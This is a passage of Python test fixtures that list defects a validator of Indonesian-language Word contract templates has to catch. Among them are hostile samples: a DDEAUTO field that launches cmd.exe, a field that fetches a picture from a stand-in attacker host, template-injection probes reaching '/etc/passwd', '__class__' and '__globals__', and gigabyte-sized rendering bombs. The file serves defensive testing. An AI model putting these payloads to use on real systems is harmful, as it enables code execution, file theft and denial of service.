            "embeddings/Microsoft_Excel_Sheet1.xlsx",
            SPREADSHEET,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "package",
        ),
    ),
    defect(
        "an OLE object stored among the pictures",
        "embedded_object",
        with_embedded(
            "media/stempel.bin",
            compound("CONTENTS"),
            "application/vnd.openxmlformats-officedocument.oleObject",
            "oleObject",
        ),
    ),
    defect("an ActiveX tick box", "activex", edit(with_activex)),
    defect(
        "a web page taken in as alternative content",
        "alt_chunk",
        with_other_content("word/afchunk1.html", b"<html><body>denda</body></html>", "text/html"),
    ),
    defect(
        "another Word file taken in as alternative content under an unsuspicious name",
        "alt_chunk",
        with_other_content("word/lampiran.docx", SPREADSHEET, f"{WORD_TYPE}.document.main+xml"),
    ),
    defect("a remote template in the settings", "outside_link", edit(with_remote_template)),
    defect("a data source for mail merge on another machine", "outside_link", edit(with_remote_data)),
    defect("a linked picture", "outside_link", edit(with_linked_picture)),
    defect("a linked picture in a header", "outside_link", edit(with_linked_picture_in_header)),
    defect("an old-style picture linked to a shared folder", "outside_link", edit(with_old_linked_picture)),
    defect("a link to a web page", "outside_link", edit(with_hyperlink)),
    defect("a part document on somebody's disk", "outside_link", edit(with_remote_part_document)),
    defect("a document whose XML is not closed", "unreadable", swapped("</w:body></w:document>", "</w:body>")),
    defect("a document in the strict variant of the format", "unreadable not_word", edit(in_strict_format)),
    defect("a document stored as UTF-16", "unreadable render_failed", edit(in_utf16)),
    defect(
        "content controls nested 3,000 deep",
        "unreadable limits",
        written("<w:sdt><w:sdtContent>" * 3_000 + paragraph(run("dalam")) + "</w:sdtContent></w:sdt>" * 3_000),
    ),
    defect(
        "the content type of a Word template (.dotx)",
        "not_word unreadable",
        swapped("document.main+xml", "template.main+xml", TYPES),
    ),
)

LOOKS = (
    defect("hidden words in a run", "hidden_text", looking("<w:vanish/>")),
    defect("hidden words, switched on by a number", "hidden_text", looking('<w:vanish w:val="1"/>')),
    defect("a style of the form that hides its words", "hidden_text", restyled("ItemAlone", "<w:vanish/>")),
    defect(
        "words hidden by a style through the style it is based on",
        "hidden_text",
        in_new_style(style("Samar", "<w:vanish/>"), style("Catatan", based="Samar"), name="Catatan"),
    ),
    defect(
        "hidden words in the header",
        "hidden_text",
        swapped("</w:p></w:hdr>", run("Versi rahasia", "<w:vanish/>") + "</w:p></w:hdr>", HEADER),
    ),
    defect("white words in a run", "white_text", looking('<w:color w:val="FFFFFF"/>')),
    defect("white words in small hexadecimal letters", "white_text", looking('<w:color w:val="ffffff"/>')),
    defect("words that are all but white", "white_text", looking('<w:color w:val="FEFEFE"/>')),
    defect("a style of the form in white", "white_text", restyled("LabelledLast", '<w:color w:val="FFFFFF"/>')),
    defect(
        "words white by a new style",
        "white_text",
        in_new_style(style("Putih", '<w:color w:val="FFFFFF"/>'), name="Putih"),
    ),
    defect(
        "words with a white fill in the newer notation",
        "white_text hidden_text",
        looking('<w14:textFill><w14:solidFill><w14:srgbClr w14:val="FFFFFF"/></w14:solidFill></w14:textFill>'),
    ),
    defect(
        "black words on black",
        "white_text hidden_text",
        looking('<w:color w:val="000000"/><w:shd w:val="clear" w:color="auto" w:fill="000000"/>'),
    ),
    defect("words of one point", "hidden_text white_text", looking('<w:sz w:val="2"/><w:szCs w:val="2"/>')),
    defect(
        "words of one point by style",
        "hidden_text white_text",
        in_new_style(style("Kecil", '<w:sz w:val="2"/>'), name="Kecil"),
    ),
    defect("words drawn at one per cent of their width", "hidden_text white_text", looking('<w:w w:val="1"/>')),
    defect(
        "a line of words with the height of a hair",
        "hidden_text white_text",
        written(
            paragraph(
                run("PIHAK KEDUA menanggung seluruh denda."),
                shape='<w:spacing w:before="0" w:after="0" w:line="1" w:lineRule="exact"/>',
            ),
        ),
    ),
    defect("a text box", "text_box", written(paragraph(text_box("Catatan penting")))),
    defect(
        "a text box of old Word",
        "text_box",
        written(paragraph("<w:r>" + old_text_box(paragraph(run("Catatan"))) + "</w:r>")),
    ),
    defect(
        "a text box in the header",
        "text_box",
        swapped("</w:p></w:hdr>", text_box("KOP DINAS") + "</w:p></w:hdr>", HEADER),
    ),
    defect("Letter paper", "paper_size", swapped('w:w="11906" w:h="16838"', 'w:w="12240" w:h="15840"', times=-1)),
    defect(
        "an annex alone on Legal paper",
        "paper_size",
        swapped(
            'rsidSect="00034616"><w:pgSz w:w="11906" w:h="16838"/>',
            'rsidSect="00034616"><w:pgSz w:w="12240" w:h="20160"/>',
        ),
    ),
    defect("a further section on A5", "paper_size", written(section(8391, 11906))),
    defect("no paper size at all", "paper_size", swapped('<w:pgSz w:w="11906" w:h="16838"/>', "", times=-1)),
    defect("a font in a run that no machine of ours has", "font_missing", looking(fonts("Monotype Corsiva"))),
    defect(
        "a font in a style that no machine of ours has",
        "font_missing",
        swapped(
            '<w:rFonts w:ascii="Arial" w:hAnsi="Arial"',
            '<w:rFonts w:ascii="Segoe Script" w:hAnsi="Segoe Script"',
            STYLES,
            -1,
        ),
    ),
    defect(
        "a font in the footer that no machine of ours has",
        "font_missing",
        swapped("</w:p></w:ftr>", run(" resmi", fonts("Kunstler Script")) + "</w:p></w:ftr>", FOOTER),
    ),
    defect(
        "automatic hyphenation",
        "auto_hyphenation",
        swapped("<w:characterSpacing", "<w:autoHyphenation/><w:characterSpacing", SETTINGS),
    ),
    defect(
        "automatic hyphenation, switched on by a word",
        "auto_hyphenation",
        swapped("<w:characterSpacing", '<w:autoHyphenation w:val="true"/><w:characterSpacing', SETTINGS),
    ),
    defect("automatic numbers in a paragraph", "automatic_numbers", edit(with_numbers_direct)),
    defect("automatic numbers by an inherited style", "automatic_numbers", edit(with_numbers_by_style)),
    defect("automatic numbers by a style of the form", "automatic_numbers", edit(with_numbers_in_existing_style)),
    defect(
        "a number that a field counts",
        "live_field automatic_numbers",
        written(paragraph(complex_field(" SEQ Ayat \\* ARABIC ") + run(" PARA PIHAK saling memberi kabar."))),
    ),
    defect("a tracked insertion", "tracked_changes", written(paragraph(marked("ins", run("atau kuasanya"))))),
    defect(
        "a tracked deletion", "tracked_changes", written(paragraph(marked("del", run("atau kuasanya", sign="delText"))))
    ),
    defect(
        "words moved under tracked changes",
        "tracked_changes",
        written(paragraph(marked("moveFrom", run("Harga tetap."))) + paragraph(marked("moveTo", run("Harga tetap.")))),
    ),
    defect("a tracked change of a run's looks", "tracked_changes", looking("<w:b/>" + marked("rPrChange", "<w:rPr/>"))),
    defect(
        "a tracked change of a paragraph's shape",
        "tracked_changes",
        written(paragraph(run("Harga tetap."), shape=marked("pPrChange", "<w:pPr/>"))),
    ),
    defect(
        "a table row inserted under tracked changes",
        "tracked_changes",
        written(table(("Padi", "Gabah")).replace("<w:tr>", f"<w:tr><w:trPr>{marked('ins', '')}</w:trPr>")),
    ),
    defect(
        "a tracked insertion in the footer",
        "tracked_changes",
        swapped("</w:p></w:ftr>", marked("ins", run(" (salinan)")) + "</w:p></w:ftr>", FOOTER),
    ),
    defect("tracking switched on", "tracking_on", set_in_settings("<w:trackRevisions/>")),
    defect("a reviewer's comment", "comments", edit(with_comments)),
    defect(
        "a DDE field",
        "live_field",
        written(paragraph(simple_field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '))),
    ),
    defect(
        "a DDE field split over runs",
        "live_field",
        written(paragraph(complex_field(" D", "DE", "AUTO", ' excel "lembar1" '))),
    ),
    defect("a DDE field in small letters", "live_field", written(paragraph(complex_field(" dde ", 'excel "x"')))),
    defect(
        "a field whose name another field inside it spells",
        "live_field",
        written(
            paragraph(
                complex_field(" ").replace(
                    run(" ", sign="instrText"),
                    run(" ", sign="instrText")
                    + complex_field(" QUOTE 68 68 69 ")
                    + run(' excel "x" ', sign="instrText"),
                ),
            ),
        ),
    ),
    defect(
        "a field that takes in another file",
        "live_field",
        written(paragraph(simple_field(' INCLUDETEXT "C:\\\\rahasia.docx" '))),
    ),
    defect(
        "a field that fetches a picture, split over runs",
        "live_field",
        written(paragraph(complex_field(" INCLUDE", 'PICTURE "', f'{EVIL}/p.png" \\d '))),
    ),
    defect("a field with today's date", "live_field", written(paragraph(simple_field(' DATE \\@ "d MMMM yyyy" ')))),
    defect("a mail merge field", "live_field", written(paragraph(complex_field(" MERGE", "FIELD nama_pihak ")))),
    defect("a contents list that Word builds", "live_field", written(paragraph(complex_field(' TOC \\o "1-3" \\h ')))),
    defect(
        "a link to a web page written as a field",
        "live_field outside_link",
        written(paragraph(complex_field(" HYPERLINK ", f'"{EVIL}" '))),
    ),
    defect(
        "the file's name as a field in the footer",
        "live_field",
        swapped("</w:p></w:ftr>", simple_field(" FILENAME \\p ") + "</w:p></w:ftr>", FOOTER),
    ),
)

TAGS = (
    defect("a tag in single braces", "half_tag", swapped("{{ zone }}", "{zone}")),
    defect("a tag with a blank between its braces", "half_tag", swapped("{{ zone }}", "{ { zone } }")),
    defect("a tag in full-width braces", "half_tag", swapped("{{ zone }}", "\uff5b\uff5b zone \uff5d\uff5d")),
    defect("a tag in mail merge signs", "half_tag", swapped("{{ zone }}", "«zone»")),
    defect("a tag that is not closed", "half_tag", swapped("{{ zone }}.", "{{ zone .")),
    defect("a tag closed by one brace only", "half_tag", swapped("{{ zone }}", "{{ zone }")),
    defect("a tag that is not opened", "half_tag", swapped("{{ zone }}", "zone }}")),
    defect(
        "a tag torn over two paragraphs",
        "half_tag",
        swapped("{{ zone }}", f"{{{{ zo</w:t></w:r></w:p>{paragraph('<w:r><w:t>ne }}')[:-6]}"),
    ),
    defect(
        "a block tag whose hyphen was corrected to a dash",
        "half_tag language",
        said("{%– if choice.mode == 'mixed' %}", "{%– endif %}"),
    ),
    defect(
        "a zero-width space inside a tag's name",
        "language word_unknown half_tag",
        swapped("{{ zone }}", f"{{{{ zo{ZERO_WIDTH_SPACE}ne }}}}"),
    ),
    defect(
        "a zero-width space between the braces of a tag",
        "half_tag",
        swapped("{{ zone }}", f"{{{ZERO_WIDTH_SPACE}{{ zone }}{ZERO_WIDTH_SPACE}}}"),
    ),
    defect("a half tag in the header", "half_tag", swapped("{{ stamp }}", "{stamp}", HEADER)),
    defect(
        "a tag whose braces are written as character numbers",
        "half_tag language render_failed",
        swapped("{{ zone }}", "&#123;&#123; zone &#125;&#125;"),
    ),
    defect(
        "a tag in deleted words",
        "tag_in_deleted",
        written(paragraph(marked("del", run("{{ zone }}", sign="delText")))),
    ),
    defect("a closing tag in deleted words", "tag_in_deleted", edit(with_closing_deleted)),
    defect(
        "a tag in words moved away",
        "tag_in_deleted tracked_changes",
        written(paragraph(marked("moveFrom", run("{{ zone }}")))),
    ),
    defect("a capitalised name", "word_unknown", swapped("{{ zone }}", "{{ Zone }}")),
    defect("a misspelt name", "word_unknown", swapped("{{ second.seat }}", "{{ secnod.seat }}")),
    defect(
        "a misspelt part of a name", "word_unknown", swapped("{{ first.contact.phone }}", "{{ first.contact.phon }}")
    ),
    defect("a name translated by the clerk", "word_unknown", swapped("{{ issue.place }}", "{{ issue.tempat }}")),
    defect("a misspelt name in the header", "word_unknown", swapped("{{ stamp }}", "{{ stmap }}", HEADER)),
    defect(
        "a misspelt name in a condition",
        "word_unknown",
        swapped("{%p if choice.mode == 'electronic' %}", "{%p if choice.mdoe == 'electronic' %}"),
    ),
    defect(
        "a misspelt name behind a condition that seldom holds",
        "word_unknown",
        said("{% if choice.mode == 'never' %}{{ zoen }}{% endif %}"),
    ),
    defect("a misspelt list", "word_unknown", swapped("for row in roles_first", "for row in role_first")),
    defect(
        "a misspelt field of a row inside a loop", "word_unknown", swapped("{{ row.potential }}", "{{ row.potental }}")
    ),
    defect("a row's field from another list", "word_unknown", swapped("{{ row.text }}", "{{ row.need }}")),
    defect("a row's field after its loop has ended", "word_unknown", said("Rincian: {{ row.text }}")),
    defect(
        "a row's name that differs from its loop's",
        "word_unknown",
        swapped("for row in roles_second", "for baris in roles_second"),
    ),
    defect(
        "a misspelt field of a member's row",
        "word_unknown",
        swapped("{{ row.signatory }}", "{{ row.signatry }}"),
        NETWORK,
    ),
    defect("a misspelt name in a footnote", "word_unknown", with_footnote("Hubungi {{ frist.contact.name }}.")),
    defect(
        "a misspelt name in a bookmark's attribute",
        "word_unknown render_failed language",
        written(paragraph('<w:bookmarkStart w:id="905" w:name="{{ secnod.name }}"/><w:bookmarkEnd w:id="905"/>')),
    ),
    defect(
        "a misspelt name in the title of the properties",
        "properties_tag word_unknown",
        swapped("<dc:subject/>", "<dc:subject>{{ sujbect }}</dc:subject>", CORE),
    ),
    defect(
        "a half tag in the properties",
        "properties_tag half_tag",
        swapped("<dc:subject/>", "<dc:subject>{{ subject </dc:subject>", CORE),
    ),
    defect("a tag in properties that are never filled", "properties_tag", with_company("{{ second.name }}")),
    defect("a loop that is never closed", "block_unclosed", without_line("{%p endfor %}")),
    defect("a condition that is never closed", "block_unclosed", without_line("{%p endif %}")),
    defect(
        "a closing tag with nothing to close",
        "block_unclosed block_crossed",
        without_line("{%p if choice.mode == 'mixed' %}"),
    ),
    defect(
        "a loop over rows that is never closed",
        "block_unclosed",
        edit(lambda package: package.swap(row_of(package, "{%tr endfor %}"), "")),
    ),
    defect(
        "an inline condition that is never closed", "block_unclosed", said("{% if choice.mode == 'mixed' %}Catatan.")
    ),
    defect("a loop and a condition that cross", "block_crossed", edit(with_crossed_blocks)),
    defect("a loop closed as if it were a condition", "block_crossed", swapped("{%p endfor %}", "{%p endif %}")),
    defect(
        "a row tag outside a table",
        "row_tag_outside",
        said("{%tr for row in matrix %}", "{{ row.name }}", "{%tr endfor %}"),
    ),
    defect(
        "a paragraph condition closed inline",
        "block_mixed",
        said("{%p if choice.mode == 'mixed' %}", "Catatan.", "Selesai. {% endif %}"),
    ),
    defect("a loop over rows closed as one over paragraphs", "block_mixed", swapped("{%tr endfor %}", "{%p endfor %}")),
    defect(
        "words behind a paragraph tag", "words_beside", swapped("{%p endif %}", "{%p endif %} Para pihak telah hadir.")
    ),
    defect(
        "words before a paragraph tag",
        "words_beside",
        swapped(
            "{%p if choice.mode == 'electronic' %}", "Bila secara elektronik: {%p if choice.mode == 'electronic' %}"
        ),
    ),
    defect(
        "a tag beside a paragraph tag",
        "words_beside",
        said("{%p if choice.mode == 'mixed' %} {{ zone }}", "Ada.", "{%p endif %}"),
    ),
    defect("words in another cell of a row tag's row", "words_beside", edit(with_words_in_row_of_tag)),
    defect(
        "two paragraph tags in one paragraph",
        "words_beside block_unclosed block_mixed",
        said("{%p if choice.mode == 'mixed' %}{%p endif %}"),
    ),
    defect(
        "a loop over cells",
        "cell_loop",
        written(table(("{%tc for row in matrix %}", "{{ row.name }}"), ("{%tc endfor %}", ""))),
    ),
    defect("a rich text tag", "rich_text", swapped("{{ zone }}", "{{r zone }}")),
)

LANGUAGE = (
    defect("a method called on a word", "language", said("{{ zone.center(1000000000) }}")),
    defect("a method called that only tidies", "language", said("{{ zone.title() }}")),
    defect("a text multiplied to a gigabyte", "language", said("{{ 'x'*10**9 }}")),
    defect("an addition", "language", said("Rangkap ke-{{ 1 + 1 }}")),
    defect("two words joined by a tilde", "language", said("{{ first.name ~ second.name }}")),
    defect("a value set", "language", said("{% set x = zone %}{{ x }}")),
    defect("a macro", "language", said("{% macro m() %}x{% endmacro %}")),
    defect("a file included", "language", said("{% include '/etc/passwd' %}")),
    defect("a file imported", "language", said("{% import 'x' as y %}")),
    defect("another form extended", "language", said("{% extends 'x' %}")),
    defect("a class reached by subscript", "language", said("{{ first['__class__'] }}")),
    defect("an honest subscript", "language", said("{{ matrix[0].name }}")),
    defect("a class reached by attribute", "language", said("{{ first.__class__ }}")),
    defect("a class reached deep in a chain", "language", said("{{ first.contact.__class__.name }}")),
    defect("a class reached from a text of the form", "language", said("{{ ''.__class__.__mro__ }}")),
    defect("a class reached in a header that nobody refers to", "language", with_stray_header("{{ zone.__class__ }}")),
    defect(
        "a bomb inside a remark of the XML",
        "language",
        written(paragraph("<!-- {{ 'x'*10**9 }} -->" + run("Catatan."))),
    ),
    defect(
        "a call in an attribute",
        "language",
        written(paragraph('<w:bookmarkStart w:id="906" w:name="{{ zone.title() }}"/><w:bookmarkEnd w:id="906"/>')),
    ),
    defect("the filter that reads attributes", "language", said("{{ zone|attr('__class__') }}")),
    defect("the filter that maps", "language", said("{{ matrix|map(attribute='name')|join(', ') }}")),
    defect("the filter that gives a fallback", "language", said("{{ zone|default('-') }}")),
    defect(
        "a filter in the clerk's own language", "language", swapped("{{ subject|upper }}", "{{ subject|huruf_besar }}")
    ),
    defect("a do", "language", said("{% do matrix.append(1) %}")),
    defect("a with", "language", said("{% with x = zone %}{{ x }}{% endwith %}")),
    defect("an unfilled region (raw)", "language half_tag", said("{% raw %}{{ zone }}{% endraw %}")),
    defect(
        "a remark of the tag language that swallows a clause",
        "language half_tag words_beside",
        edit(with_swallowed_clause),
    ),
    defect("a choice inside a tag", "language", said("{{ zone if choice.mode == 'mixed' else subject }}")),
    defect("a test by name", "language", said("{% if zone is defined %}x{% endif %}")),
    defect("a list written out", "language", said("{% for x in [1, 2] %}{{ x }}{% endfor %}")),
    defect("a loop with two names", "language", said("{% for a, b in matrix %}x{% endfor %}")),
    defect("a loop over a range", "language word_unknown", said("{% for n in range(999999999) %}x{% endfor %}")),
    defect("a cycler", "language word_unknown", said("{{ cycler('a', 'b') }}")),
    defect("the globals reached through lipsum", "language word_unknown", said("{{ lipsum.__globals__ }}")),
    defect("a recursive loop", "language loops_deep", said("{% for row in matrix recursive %}x{% endfor %}")),
    defect(
        "a condition with a single equals sign",
        "language",
        swapped("{%p if choice.mode == 'mixed' %}", "{%p if choice.mode = 'mixed' %}"),
    ),
    defect(
        "a block word in the clerk's own language", "language", said("{% jika choice.mode == 'mixed' %}x{% akhir %}")
    ),
    defect(
        "a paragraph tag without its blank",
        "language half_tag",
        said("{%pif choice.mode == 'mixed' %}", "Ada.", "{%pendif %}"),
    ),
    defect("a name with a blank in it", "language word_unknown", swapped("{{ zone }}", "{{ zona waktu }}")),
    defect("a name with a hyphen in it", "language word_unknown", swapped("{{ first.seat }}", "{{ first-seat }}")),
    defect("an ampersand inside a tag", "language", swapped("{{ zone }}", "{{ zone &amp; subject }}")),
    defect("a tag with nothing in it", "language half_tag", said("Nama: {{ }}")),
    defect(
        "loops three deep over paragraphs",
        "loops_deep",
        said(
            *("{%p for a in roles_first %}", "{%p for b in roles_second %}", "{%p for c in matrix %}", "{{ c.name }}"),
            *["{%p endfor %}"] * 3,
        ),
    ),
    defect(
        "loops three deep with conditions between, in one line",
        "loops_deep",
        said(
            "{% for a in members %}{% if choice.mode == 'mixed' %}{% for b in members %}{% if b.no %}"
            "{% for c in members %}{{ c.name }}{% endfor %}{% endif %}{% endfor %}{% endif %}{% endfor %}",
        ),
        NETWORK,
    ),
    defect("brackets nested 5,000 deep", "language limits", said("{{ " + "(" * 5_000 + "zone" + ")" * 5_000 + " }}")),
    defect("20,000 times not", "language limits", said("{% if " + "not " * 20_000 + "zone %}x{% endif %}")),
    defect("200 kB of opened rich text tags", "limits half_tag rich_text", said("{{r " * 50_000)),
    defect(
        "a loop over a word that is no list",
        "render_failed word_unknown",
        said("{% for row in subject %}{{ row.no }}{% endfor %}"),
    ),
    defect("a group of words printed as one", "render_failed word_unknown", said("Hubungi {{ first.contact }}.")),
    defect(
        "a word compared with a number", "render_failed language", said("{% if term.length > 12 %}Panjang.{% endif %}")
    ),
)

CONTENT = (
    defect(
        "an article taken out so that the numbers jump",
        "article_order",
        without_article("PEMBIAYAAN", renumbered=False),
    ),
    defect("two articles swapped", "article_order", edit(with_articles_swapped)),
    defect("an article's number used twice", "article_order", swapped("<w:t>Pasal 6</w:t>", "<w:t>Pasal 5</w:t>")),
    defect(
        "an article numbered in Roman figures", "article_order", swapped("<w:t>Pasal 7</w:t>", "<w:t>Pasal VII</w:t>")
    ),
    defect("an article's heading torn into two paragraphs", "article_order", edit(with_heading_torn)),
    defect(
        "an article that only one way of signing prints",
        "article_order",
        edit(with_article_in_one_variant),
    ),
    defect(
        "no article on intent and purpose", "element_missing", without_article("MAKSUD DAN TUJUAN", renumbered=True)
    ),
    defect("no article on the scope", "element_missing", without_article("RUANG LINGKUP", renumbered=True)),
    defect(
        "no article on the term, though prose names it",
        "element_missing",
        both(
            without_article("JANGKA WAKTU DAN PENGAKHIRAN", renumbered=True),
            said("JANGKA WAKTU kerja sama dibicarakan oleh PARA PIHAK di kemudian hari."),
        ),
    ),
    defect("no article on changes", "element_missing", without_article("PERUBAHAN", renumbered=True)),
    defect("a heading typed anew under another title", "element_missing", edit(with_heading_retyped)),
    defect("an article typed over, its bookmark kept", "element_missing", edit(with_article_overwritten)),
    defect(
        "a network without its scope", "element_missing", without_article("RUANG LINGKUP", renumbered=True), NETWORK
    ),
    defect(
        "the counterpart's name replaced by a fixed one",
        "word_unused value_lost",
        both(
            swapped("{{ counterpart.name|upper }}", "PT BERAS MAKMUR"),
            swapped("{{ counterpart.name }}", "PT Beras Makmur", times=-1),
        ),
        NETWORK,
    ),
    defect(
        "the second party's authority replaced by dots",
        "word_unused value_lost",
        swapped("{{ second.authority }}", "........"),
    ),
    defect(
        "the number of the letter replaced by a fixed one",
        "word_unused value_lost",
        swapped("{{ issue.number }}", "01/MoU/2025", times=-1),
    ),
    defect("the time zone replaced by a fixed one", "word_unused value_lost", swapped("{{ zone }}", "WIB")),
    defect(
        "the notice period replaced by a fixed one",
        "word_unused value_lost",
        swapped("{{ term.notice }}", "30 (tiga puluh) hari"),
    ),
    defect(
        "the header without its stamp", "word_unused value_lost", swapped("{{ stamp }}", "NOTA KESEPAHAMAN", HEADER)
    ),
    defect("a column of the annex with fixed words", "word_unused value_lost", edit(without_column)),
    defect("an annex without its table", "word_unused value_lost", edit(without_annex_table)),
    defect(
        "an empty signature cell",
        "word_unused value_lost element_missing",
        edit(without_first_signature),
    ),
    defect(
        "the opening without the second party",
        "word_unused value_lost element_missing",
        without_line(
            "{{ second.standing }}", paragraph(run("PIHAK KEDUA adalah mitra yang akan ditentukan kemudian."))
        ),
    ),
    defect(
        "a word printed only where a condition never holds",
        "word_unused value_lost",
        swapped("{{ zone }}", "{% if choice.mode == 'never' %}{{ zone }}{% endif %}"),
    ),
    defect(
        "a way of signing translated in its condition",
        "value_lost word_unused word_unknown",
        swapped("{%p if choice.mode == 'electronic' %}", "{%p if choice.mode == 'elektronik' %}", times=-1),
    ),
    defect("only the first letter of a word", "value_lost word_unused", swapped("{{ zone }}", "{{ zone|first }}")),
    defect(
        "the length of a word in its place",
        "value_lost word_unused",
        swapped("{{ first.authority }}", "{{ first.authority|length }}"),
    ),
    defect(
        "only the first row of a list",
        "value_lost",
        swapped("for row in roles_first", "for row in roles_first if row.letter == 'a.'"),
    ),
    defect(
        "a word printed in the footer only",
        "value_lost word_unused",
        both(
            swapped("{{ zone }}", "waktu setempat"),
            swapped("</w:p></w:ftr>", run(" {{ zone }}") + "</w:p></w:ftr>", FOOTER),
        ),
    ),
)

GROUPS = {"bytes": BYTES, "package": PACKAGE, "looks": LOOKS, "tags": TAGS, "language": LANGUAGE, "content": CONTENT}
DEFECTS: tuple[Defect, ...] = tuple(entry for group in GROUPS.values() for entry in group)
